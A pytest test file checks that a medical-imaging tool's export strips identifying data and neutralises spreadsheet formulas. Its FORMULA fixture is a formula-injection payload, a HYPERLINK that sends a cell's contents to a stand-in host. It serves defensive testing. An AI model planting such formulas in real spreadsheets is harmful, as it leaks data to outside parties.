"""What leaves the house: nothing of who and where, new ids if wished, and no formula for anybody's spreadsheet."""

import json
import os
import re
import shutil
import stat

import nibabel as nib
import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image, PngImagePlugin
from report_run import make_run, write, write_object
from typer.testing import CliRunner

from sepclr_med import export, read_manifest, write_manifest
from sepclr_med.cli import app
from sepclr_med.cohort.embeddings import read_embeddings
from sepclr_med.errors import ConfigError, RunError
from sepclr_med.report.render import report
from sepclr_med.report.sections.steps import describe_steps
from sepclr_med.sharing.columns import cap_ages, find_identifying
from sepclr_med.sharing.formulas import NUMBER, neutralise
from sepclr_med.sharing.traces import look_for
from sepclr_med.sharing.words import read_words

USER, HOST = "zebedee.quux", "narwhal-7.clinic.example"
UID = "1.2.840.113619.2.55.3.604688119.971.1589459283.467"
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"open")'


@pytest.fixture(scope="module")
def made(tmp_path_factory):
    """A run in the home of a user with a name of their own, whose every file would tell something."""
    home = tmp_path_factory.mktemp("disk") / "home" / USER
    with pytest.MonkeyPatch.context() as patch:
        patch_names(patch, home)
        yield make_talkative_run(home / "study" / "runs" / "vbm", home)


@pytest.fixture
def home(tmp_path, monkeypatch):
    folder = tmp_path / "home" / USER
    patch_names(monkeypatch, folder)
    return folder


@pytest.fixture
def run(made, home):
    """The same run, to be changed."""
    return shutil.copytree(made, home / "study" / "runs" / "vbm")


def patch_names(patch, home):
    for name in ("USER", "LOGNAME", "USERNAME"):
        patch.setenv(name, USER)
    patch.setenv("HOME", str(home))
    patch.setattr("platform.node", lambda: HOST)


def make_talkative_run(folder, home):
    run = make_run(folder)
    # Fewer files of a kind: every test copies what is left.
    for name in ("prediction", "similarity", "subtypes_criteria", "subtypes_links", "sites"):
        (run / f"analysis/{name}.tsv").unlink()
    for name in ("canonical", "voxelpca"):
        (run / f"embeddings/desc-{name}_embedding.tsv").unlink()
    people = pd.read_csv(run / "data/manifest.tsv", sep="\t", dtype=str, keep_default_na=False, na_values=["n/a"])
    people["age"] = people["age"].where(people.index != 5, "97.3")
    people = people.assign(
        PatientName=[f"Quux^Zeb{i}" for i in range(len(people))],
        StudyInstanceUID=[f"{UID}{i}" for i in range(len(people))],
        seriesref=[f"{UID}.{i}" for i in range(len(people))],
        scan=["2019-03-01"] * len(people),
        hospital=[str(90_000_000 + 7 * i) for i in range(len(people))],
        remark=[FORMULA if i % 2 else "+a" for i in range(len(people))],
        rating=["@good" if i % 2 else "-1" for i in range(len(people))],
        family_id=[f"FAM{i // 2:02}" for i in range(len(people))],
    )
    write(run / "data/manifest.tsv", people)
    card = json.loads((run / "analysis/card.json").read_text())
    card["notes"] = [f"{home}/study/m.tsv: 017 has no age", "C:\\Users\\zeb\\m.tsv was read", "control 017 of sub-017"]
    write_object(run / "analysis/card.json", card)
    image = nib.Nifti1Image(np.ones((2, 2, 2), np.float32), np.eye(4))
    nib.save(image, run / "maps/salient_001_t.nii.gz")
    report(run)
    return run


def every_word(folder):
    """Return the text of every file, in whatever it is packed."""
    paths = [path for path in folder.rglob("*") if path.is_file()]
    assert len(paths) > 8
    return {
        path.relative_to(folder).as_posix(): read_words(path) + path.read_bytes().decode("latin-1") for path in paths
    }


def test_no_path_user_machine_or_examination_is_in_anything_exported(made, tmp_path):
    home = made.parents[2]
    export(made, tmp_path / "out")
    for name, words in every_word(tmp_path / "out").items():
        for told in (str(home), USER, HOST, "narwhal", "zeb", "Quux^", "1.2.840", "/home/", "C:\\"):
            assert told not in words, (name, told)
    shared = json.loads((tmp_path / "out/export.json").read_text())
    assert shared["LeftOut"] == {}
    assert set(shared["ColumnsRemoved"]) == {"image_path", "PatientName", "StudyInstanceUID", "seriesref"}
    # Ids stay, and so do clinical columns.
    people = pd.read_csv(tmp_path / "out/analysis/participants.tsv", sep="\t", dtype=str)
    assert "017" in set(people["participant_id"])
    assert {"scan", "hospital", "severity"} <= set(people)
    notes = json.loads((tmp_path / "out/analysis/card.json").read_text())["notes"]
    assert notes == ["m.tsv: 017 has no age", "m.tsv was read", "control 017 of sub-017"]


def test_the_derivative_and_the_report_of_the_run_itself_tell_neither(made):
    home = made.parents[2]
    for path in [made / "report.html", *(made / "embeddings").iterdir()]:
        words = read_words(path) + path.read_text(encoding="utf-8")
        for told in (str(home), USER, HOST, "1.2.840", "Quux^"):
            assert told not in words, path


def test_files_that_cannot_be_cleaned_are_left_out_and_named(run, tmp_path):
    said = PngImagePlugin.PngInfo()
    said.add_text("Author", USER)
    Image.new("L", (2, 2)).save(run / "analysis/separation.png", pnginfo=said)
    image = nib.Nifti1Image(np.ones((2, 2, 2), np.float32), np.eye(4))
    image.header.extensions.append(nib.nifti1.Nifti1Extension("comment", UID.encode()))
    nib.save(image, run / "maps/extension.nii")
    image = nib.Nifti1Image(np.ones((2, 2, 2), np.float32), np.eye(4))
    image.header["descrip"] = b"/home/zeb/study/maps"
    nib.save(image, run / "maps/salient_001_t.nii.gz")
    (run / "analysis/notes.docx").write_text("x")
    (run / "maps/broken.json").write_text("{")
    export(run, tmp_path / "out")
    expected = {
        "analysis/notes.docx": "of a kind that cannot be looked through",
        "analysis/separation.png": "the name of a user or machine",
        "maps/broken.json": "cannot be read (JSONDecodeError)",
        "maps/extension.nii": "an identifier of DICOM",
        "maps/salient_001_t.nii.gz": "a path of the disk",
    }
    assert json.loads((tmp_path / "out/export.json").read_text())["LeftOut"] == expected
    assert not [name for name in expected if (tmp_path / "out" / name).exists()]
    assert (tmp_path / "out/embeddings/desc-salient_embedding.tsv").is_file()


def add_column(run, **columns):
    path = run / "analysis/participants.tsv"
    write(path, read_table(path).assign(**columns))


def read_table(path):
    return pd.read_csv(path, sep="\t", dtype=str, keep_default_na=False, na_values=["n/a"])


def left_out(run, out, **options):
    export(run, out, report=False, **options)
    return json.loads((out / "export.json").read_text())["LeftOut"].get("analysis/participants.tsv")


@pytest.mark.parametrize("word", [USER, HOST, HOST.split(".")[0]])
def test_the_name_of_a_user_or_machine_in_a_cell_is_found_with_its_row_and_column(run, tmp_path, word):
    add_column(run, rater=lambda table: [f"scored by {word}" if i == 4 else "x" for i in range(len(table))])
    assert left_out(run, tmp_path / "out") == "the name of a user or machine (row 6, column rater)"
    assert not (tmp_path / "out/analysis/participants.tsv").exists()
    # What the message names can be dropped.
    assert left_out(run, tmp_path / "again", drop=["rater"]) is None
    assert (tmp_path / "again/analysis/participants.tsv").is_file()


def test_a_heading_with_the_name_of_a_user_is_given_by_its_number(run, tmp_path):
    add_column(run, **{f"score_of {USER}": "1"})
    n_columns = len(pd.read_csv(run / "analysis/participants.tsv", sep="\t").columns)
    said = left_out(run, tmp_path / "out")
    assert re.fullmatch(r"the name of a user or machine \(the name of column \d+\)", said)
    assert USER not in (tmp_path / "out/export.json").read_text()
    assert int(re.findall(r"\d+", said)[0]) <= n_columns


def test_with_new_ids_the_column_is_named_and_not_the_row(run, tmp_path):
    # Rows of the export come in another order, and theirs is nobody's business.
    add_column(run, rater=lambda table: [USER if i % 2 else "x" for i in range(len(table))])
    said = left_out(run, tmp_path / "out", deidentify=True, key=tmp_path / "key.json")
    assert said == "the name of a user or machine (column rater)"


def test_a_site_that_is_named_as_the_user_is_stays(run, tmp_path):
    manifest = read_table(run / "data/manifest.tsv")
    write(run / "data/manifest.tsv", manifest.assign(site=[USER, "Kiel"] * (len(manifest) // 2)))
    add_column(run, site=USER)
    assert left_out(run, tmp_path / "out") is None


PATHS = (
    *(
        "/data/Mood Clinic/Huber 2019/m.tsv",
        "../Huber private/m.tsv",
        r"C:\Users\Ann Smith\study\m.tsv",
        "~/my study/m.tsv",
    ),
    *("file:///home/ann/x/m.tsv", "C:/Users/Ann Smith/m.tsv", r"\\server\Ann Smith\m.tsv", "~ann/m.tsv", "/x/y/m.tsv"),
)


@pytest.mark.parametrize("path", PATHS)
def test_paths_are_cut_and_seen_whatever_they_look_like(path, tmp_path):
    text = f"from {path} and/or a/b: read"
    (tmp_path / "notes.md").write_text(text)
    assert look_for({}).find(tmp_path / "notes.md") == ["a path of the disk"]
    (tmp_path / "notes.md").write_text(look_for({}).cleaner(text)(text))
    assert (tmp_path / "notes.md").read_text() == "from m.tsv and/or a/b: read"
    assert look_for({}).find(tmp_path / "notes.md") == []


@pytest.mark.parametrize("text", ["and/or", "3 / 4 of a/b", "~3/4", "https://a.org/b c/d", "m/s, 05/03/2019", r"\d\w"])
def test_what_only_looks_like_a_path_stays(text):
    assert look_for({}).cleaner(text)(text) == text


@pytest.mark.parametrize("path", ["Mood Clinic/m.tsv", "Huber=2019/m.tsv", *PATHS])
def test_a_recorded_command_is_shown_without_folders(path):
    words = ["sepclr-med", "fit", path, f"--manifest={path}", f"--set=volumes.cache_dir={path}", "training.epochs=1"]
    shown = json.dumps(describe_steps({"steps": [{"step": "fit", "command": words}], "files": []}))
    assert "fit m.tsv --manifest=m.tsv --set=volumes.cache_dir=m.tsv training.epochs=1" in shown
    assert "Huber" not in shown


# ---------------------------------------------------------------- new ids


def deidentified(run, tmp_path, **options):
    key = tmp_path / "keys" / "key.json"
    export(run, tmp_path / "out", deidentify=True, key=key, **options)
    return json.loads(key.read_text())["ids"], tmp_path / "out"


def rename_ids(run, how, **columns):
    for path in run.rglob("*.tsv"):
        table = pd.read_csv(path, sep="\t", dtype=str, keep_default_na=False)
        if "participant_id" in table:
            write(path, table.assign(participant_id=table["participant_id"].map(how), **columns))


def report_without_ids(run):
    card = json.loads((run / "analysis/card.json").read_text())
    write_object(run / "analysis/card.json", card | {"notes": []})
    report(run)


def test_a_report_that_names_someone_after_all_is_left_out(run, tmp_path):
    _, out = deidentified(run, tmp_path)
    assert json.loads((out / "export.json").read_text())["LeftOut"] == {"report.html": "an original id"}


def test_no_original_id_survives_and_rows_still_belong_together(run, tmp_path):
    originals = read_manifest(run / "data/manifest.tsv")["participant_id"].tolist()
    write_object(
        run / "analysis/people.json", {"participant_id": "017", "who": ["sub-017", "017"], "near 021": 1, "run": ["a"]}
    )
    write(run / "analysis/pairs.tsv", pd.DataFrame({"one": ["017", "n/a"], "n": [3, 4], "other": ["FAM08", "x"]}))
    ids, out = deidentified(run, tmp_path)
    assert set(ids["participant_id"]) == set(originals)
    new = list(ids["participant_id"].values())
    assert len(set(new)) == len(originals)
    assert all(re.fullmatch(r"sub-[a-z0-9]{8}", name) for name in new)
    factor = r"(?:salient|common|canonical|voxel_pca|group|cluster)_\d+"
    for path in (path for path in out.rglob("*") if path.is_file()):
        words = re.sub(factor, "", read_words(path))
        assert not re.search(r"(?<![\w.])(?<!\d,)(?:sub-)?0\d\d(?!\w)", words), path
        assert not re.search(r"FAM\d\d", words), path
    before, after = (read_embeddings(folder / "embeddings") for folder in (run, out))
    for space, table in before.items():
        renamed = table.assign(participant_id=table["participant_id"].map(ids["participant_id"]))
        expected = renamed.sort_values("participant_id", ignore_index=True)
        pd.testing.assert_frame_equal(after[space], expected, check_dtype=False, rtol=1e-6)
    people = pd.read_csv(out / "analysis/participants.tsv", sep="\t", dtype=str, keep_default_na=False)
    sleep = read_manifest(run / "data/manifest.tsv").set_index("participant_id")["severity"]
    back = {new: original for original, new in ids["participant_id"].items()}
    for name, value in zip(people["participant_id"], people["severity"], strict=True):
        np.testing.assert_allclose(float(value.replace("n/a", "nan")), sleep[back[name]], rtol=1e-6)
    said = json.loads((out / "analysis/people.json").read_text())
    new_017, new_021 = ids["participant_id"]["017"], ids["participant_id"]["021"]
    assert said == {"participant_id": new_017, "who": [new_017, new_017], f"near {new_021}": 1, "run": ["a"]}
    # The order of rows would tell the order of the old ids.
    assert people["participant_id"].map(back).tolist() != originals


def test_columns_that_identify_go_ages_over_89_are_90_and_the_sidecar_says_so(run, tmp_path):
    report_without_ids(run)
    _, out = deidentified(run, tmp_path, drop=["site"])
    shared = json.loads((out / "export.json").read_text())
    assert shared["ColumnsRemoved"] == {
        "image_path": "a path",
        "PatientName": "an identifier of DICOM",
        "StudyInstanceUID": "an identifier of DICOM",
        "seriesref": "holds unique identifiers",
        "scan": "holds dates",
        "hospital": "long numbers, each there once",
        "remark": "free text",
        "site": "asked for",
    }
    assert shared["AgesCapped"] == ["age"]
    people = pd.read_csv(out / "analysis/participants.tsv", sep="\t", dtype=str)
    assert {"age", "sex", "diagnosis", "severity", "rating"} <= set(people)
    assert people["age"].astype(float).max() == 90
    # The page draws everyone's age as it was.
    assert shared["LeftOut"] == {"report.html": "it may draw participants, some of whom are over 89 years old"}


def test_the_report_is_exported_where_nobody_is_that_old_or_not_if_unwanted(run, tmp_path):
    people = read_manifest(run / "data/manifest.tsv")
    write_manifest(people.assign(age=people["age"].clip(upper=80)), run / "data/manifest.tsv")
    report_without_ids(run)
    _, out = deidentified(run, tmp_path)
    assert (out / "report.html").is_file()
    export(run, tmp_path / "without", report=False)
    assert not (tmp_path / "without/report.html").exists()


def test_the_same_key_gives_the_same_ids_and_learns_new_ones(run, tmp_path):
    first, _ = deidentified(run, tmp_path)
    people = pd.read_csv(run / "data/manifest.tsv", sep="\t", dtype=str)
    people.loc[3, "participant_id"] = "999"
    write(run / "data/manifest.tsv", people)
    second, _ = deidentified(run, tmp_path, overwrite=True)
    assert set(second["participant_id"]) - set(first["participant_id"]) == {"999"}
    assert {old: second["participant_id"][old] for old in first["participant_id"]} == first["participant_id"]
    export(run, tmp_path / "out2", deidentify=True, key=tmp_path / "other.json")
    other = json.loads((tmp_path / "other.json").read_text())["ids"]["participant_id"]
    assert not set(other.values()) & set(second["participant_id"].values())


def test_the_key_is_for_its_owner_and_lies_apart(run, tmp_path):
    old = os.umask(0)
    try:
        deidentified(run, tmp_path)
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "keys/key.json").stat().st_mode) == 0o600
    for key in (tmp_path / "new/key.json", tmp_path / "new/a/../key.json", run / "embeddings/key.json"):
        with pytest.raises(RunError, match="the key must not lie in"):
            export(run, tmp_path / "new", deidentify=True, key=key)
    linked = tmp_path / "link"
    linked.symlink_to(tmp_path / "new")
    with pytest.raises(RunError, match="the key must not lie in"):
        export(run, tmp_path / "new", deidentify=True, key=linked / "key.json")
    assert not (tmp_path / "new").exists()


def test_ids_that_are_examinations_are_passed_on_as_new_ones_only(run, tmp_path):
    rename_ids(run, lambda name: f"{UID}.{int(name)}")
    with pytest.raises(RunError, match="participant_id: identifiers of DICOM"):
        export(run, tmp_path / "out")
    assert not (tmp_path / "out").exists()
    ids, out = deidentified(run, tmp_path)
    assert all("1.2.840" not in words for words in every_word(out).values())
    people = pd.read_csv(out / "analysis/participants.tsv", sep="\t", dtype=str)
    assert set(people["participant_id"]) == set(ids["participant_id"].values())


@pytest.mark.parametrize("content", ["thesis", '{"about": "mine"}', "[]", '{"ids": {"participant_id": {"a": "b"}}}'])
def test_a_file_that_is_no_key_is_never_overwritten(run, tmp_path, content):
    (tmp_path / "key.json").write_text(content)
    with pytest.raises(RunError, match=r"key\.json"):
        export(run, tmp_path / "out", deidentify=True, key=tmp_path / "key.json")
    assert (tmp_path / "key.json").read_text() == content
    assert not (tmp_path / "out").exists()


def test_bare_numbers_as_ids_are_mapped_where_they_are_ids_and_left_where_they_are_numbers(run, tmp_path):
    rename_ids(run, lambda name: str(int(name)))
    write(run / "analysis/pairs.tsv", pd.DataFrame({"one": ["17", "none"], "n": ["17", "21"]}))
    ids, out = deidentified(run, tmp_path)
    pairs = pd.read_csv(out / "analysis/pairs.tsv", sep="\t", dtype=str)
    assert pairs["one"].tolist() == [ids["participant_id"]["17"], "none"]
    assert pairs["n"].tolist() == ["17", "21"]
    people = pd.read_csv(out / "analysis/participants.tsv", sep="\t", dtype=str)
    assert set(people["participant_id"]) == set(ids["participant_id"].values())


MONTHS_BY_NAME = (
    *("1-Mar-2019", "Mar 5 2019", "March 5th, 2019", "5 March 2019", "01MAR2019", "5. März 2019", "12 août 2019"),
    *("5-mar-19", "Tue, 5 Mar 2019 10:33", "Tue Mar  5 10:33:00 2019", "Mar-19", "März 2019", "1st of May 2019"),
)


@pytest.mark.parametrize(
    ("column", "values"),
    [
        ("date_of_birth", ["a", "b"]),
        ("DOB", ["a", "b"]),
        ("visit", ["2019-03-01", None]),
        ("visit", ["01/03/2019", "x"]),
        ("visit", ["1.3.19", "x"]),
        ("visit", ["20190301", "20190302"]),
        *(("visit", [written, "x"]) for written in MONTHS_BY_NAME),
        ("contact", ["a@b.org", None]),
        ("PostCode", ["1", "2"]),
        ("MRN", ["1", "2"]),
        ("story", ["He fell.", "She slept."] * 8 + [f"{i} words each" for i in range(20)]),
        ("other", ["Huber", "Maier", "Ritter", "Vogt", "Wagner", "Weber"] + [None] * 94),
        ("other", ["fell off the roof in Ghent"] + ["no"] * 99),
        ("other", ["fell in Ghent", None]),
    ],
)
def test_a_column_that_identifies_is_seen(column, values):
    assert column in find_identifying(pd.DataFrame({column: values}))


@pytest.mark.parametrize(
    ("column", "values"),
    [
        ("tiv", ["1950.25", "1480.11", "2019.12"]),
        ("madrs", ["12", "30"] * 10),
        ("candidate", ["yes", "no"] * 10),
        ("handedness", ["left", "right"] * 10),
        ("iq", [str(value) for value in range(80, 110)]),
        ("site", ["Ghent", "Paris"] * 10),
        ("subtype", ["one", None]),
        ("episode", ["single", "first of several ones", "later of several ones"] * 10),
        ("drug", ["lithium", "valproate"] * 4 + [None] * 92),
        ("empty", [None] * 20),
        ("level", ["decile 10", "marker 12", "set 12", "3 months", "mai", "10 mg 20", "may"] * 4),
        ("scanner", ["Siemens Prisma 3T"] + ["Siemens Trio Tim"] * 9),
        ("salient_000", ["0.12345678", "-12345.678"] * 10),
    ],
)
def test_a_clinical_column_stays(column, values):
    assert find_identifying(pd.DataFrame({column: values})) == {}


def test_what_one_participant_alone_says_is_free_text_in_however_many_rows():
    table = pd.DataFrame({"participant_id": ["a", "a", *"bcdefgh"], "event": ["fell in Ghent"] * 2 + ["no"] * 7})
    assert find_identifying(table) == {"event": "free text"}


def test_a_value_that_was_removed_is_not_told_elsewhere(run, tmp_path):
    report_without_ids(run)
    # Also where no table with these columns is exported.
    (run / "analysis/participants.tsv").unlink()
    (run / "analysis/notes.md").write_text("One was scanned on 2019-03-01.")
    write_object(run / "analysis/more.json", {"who": "Quux^Zeb3 came twice"})
    _, out = deidentified(run, tmp_path, report=False)
    told = "a value of a column that was removed"
    assert json.loads((out / "export.json").read_text())["LeftOut"] == {
        "analysis/more.json": told,
        "analysis/notes.md": told,
    }


def test_numbers_with_gaps_stay_numbers_although_an_id_is_a_number(run, tmp_path):
    rename_ids(run, lambda name: str(int(name)), session_id="1")
    write(run / "analysis/counts.tsv", pd.DataFrame({"n": ["17", "n/a", "1"], "level": ["1", "low", "high"]}))
    _, out = deidentified(run, tmp_path, report=False)
    counts = pd.read_csv(out / "analysis/counts.tsv", sep="\t", dtype=str, keep_default_na=False)
    assert counts.to_dict("list") == {"n": ["17", "n/a", "1"], "level": ["1", "low", "high"]}


def test_ages_in_months_are_capped_as_months_and_others_stay():
    capped, columns = cap_ages(
        pd.DataFrame({"age_at_onset": ["101", "n/a"], "AgeMonths": ["1100", "95"], "dosage": ["95", "1"]})
    )
    assert capped.to_dict("list") == {"age_at_onset": ["90", "n/a"], "AgeMonths": ["1080", "95"], "dosage": ["95", "1"]}
    assert columns == ["age_at_onset", "AgeMonths"]


@pytest.mark.parametrize("name", ["AGEyears", "ageyears", "Age2", "scanage", "AgeAtScan", "age_at_visit_2", "AGE"])
def test_ages_are_capped_however_they_are_spelt(name):
    assert cap_ages(pd.DataFrame({name: ["95", "41"]}))[0][name].tolist() == ["90", "41"]


@pytest.mark.parametrize(
    "name", ["age2", "age_2", "age_sq", "AgeSquared", "brain_age_gap", "age_z", "stage", "percentage"]
)
def test_what_is_made_of_ages_is_not_capped(name):
    table = pd.DataFrame({name: ["9025", "1681"]})
    capped, columns = cap_ages(table)
    assert capped.equals(table)
    assert columns == []


# ---------------------------------------------------------------- formulas


@given(st.text(st.sampled_from("=+-@\t\r\n'0123456789.eE ａ＝"), max_size=8))
def test_no_cell_is_a_formula_numbers_stay_and_no_two_cells_become_one(cell):
    safe = neutralise(cell)
    assert safe in (cell, f"'{cell}")
    if NUMBER.fullmatch(cell):
        assert safe == cell
    else:
        assert not safe.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))
    # An apostrophe of one's own is kept apart from one of ours.
    assert safe != neutralise(f"'{cell}")


@pytest.mark.parametrize("number", ["-1", "-0.5", "+3", "-1e-05", "-inf", "-.5", "1"])
def test_numbers_stay_numbers(number):
    assert neutralise(number) == number


def test_formulas_are_text_in_every_exported_table_and_the_run_keeps_its_own(run, tmp_path):
    links = pd.read_csv(run / "analysis/links.tsv", sep="\t")
    write(run / "analysis/links.tsv", links.assign(note=FORMULA).rename(columns={"family": "=family"}))
    before = {path: path.read_bytes() for path in run.rglob("*.tsv")}
    export(run, tmp_path / "out")
    for path in (tmp_path / "out").rglob("*.tsv"):
        table = pd.read_csv(path, sep="\t", dtype=str, keep_default_na=False)
        cells = [*table.columns, *table.to_numpy().ravel()]
        assert not [cell for cell in cells if cell[:1] in tuple("=+-@") and not NUMBER.fullmatch(cell)], path
    people = pd.read_csv(tmp_path / "out/analysis/participants.tsv", sep="\t", dtype=str)
    assert set(people["remark"]) == {f"'{FORMULA}", "'+a"}
    assert set(people["rating"]) == {"'@good", "-1"}
    exported = pd.read_csv(tmp_path / "out/analysis/links.tsv", sep="\t")
    assert "'=family" in exported
    assert before == {path: path.read_bytes() for path in run.rglob("*.tsv")}


@pytest.mark.parametrize("name", ["m.tsv", "m.csv"])
def test_a_manifest_with_such_ids_is_read_back_as_it_was_written(tmp_path, name):
    ids = ["-1", "+a", "=1+1", "@b", "'c", "'=d", "-"]
    table = pd.DataFrame({"participant_id": ids[:-1], "image_path": [str(tmp_path / f"{i}.nii") for i in range(6)]})
    written = write_manifest(table.assign(diagnosis="=control"), tmp_path / name)
    again = read_manifest(written)
    assert again["participant_id"].tolist() == ids[:-1]
    assert set(again["diagnosis"]) == {"=control"}


# ---------------------------------------------------------------- folders and options


def test_a_folder_with_something_in_it_is_left_alone(run, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    export(run, out)
    with pytest.raises(RunError, match="is not empty"):
        export(run, out)
    export(run, out, overwrite=True)
    (tmp_path / "thesis").mkdir()
    (tmp_path / "thesis/a.tex").write_text("years of work")
    with pytest.raises(RunError, match="did not write"):
        export(run, tmp_path / "thesis", overwrite=True)
    for folder in (run, run.parent):
        with pytest.raises(RunError, match=r"lies in it|is not empty"):
            export(run, folder)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["home", "out", "thesis"]


def test_what_fails_leaves_nothing(run, tmp_path):
    with pytest.raises(ConfigError, match="no table of participants has this column"):
        export(run, tmp_path / "out", drop=["no_such"])
    with pytest.raises(RunError, match="cannot be written"):
        export(run, tmp_path / "out", deidentify=True, key=run / "report.html" / "key.json")
    with pytest.raises(ConfigError, match="--key FILE"):
        export(run, tmp_path / "out", deidentify=True)
    with pytest.raises(ConfigError, match="--key is of --deidentify"):
        export(run, tmp_path / "out", key=tmp_path / "k")
    with pytest.raises(ConfigError, match="bundle holds no participants"):
        export(run, tmp_path / "out", bundle=True, drop=["age"])
    with pytest.raises(RunError, match="no such folder"):
        export(tmp_path / "absent", tmp_path / "out")
    assert [path.name for path in tmp_path.iterdir()] == ["home"]


def test_the_command_says_what_it_left_out(run, tmp_path):
    (run / "analysis/notes.docx").write_text("x")
    words = ["export", str(run), "-o", str(tmp_path / "out"), "--deidentify", "--key", str(tmp_path / "key.json")]
    done = CliRunner().invoke(app, words)
    assert done.exit_code == 0, done.output
    assert "left out: analysis/notes.docx: of a kind that cannot be looked through" in done.stderr
    assert f"not to be passed on: {tmp_path / 'key.json'}" in done.stdout
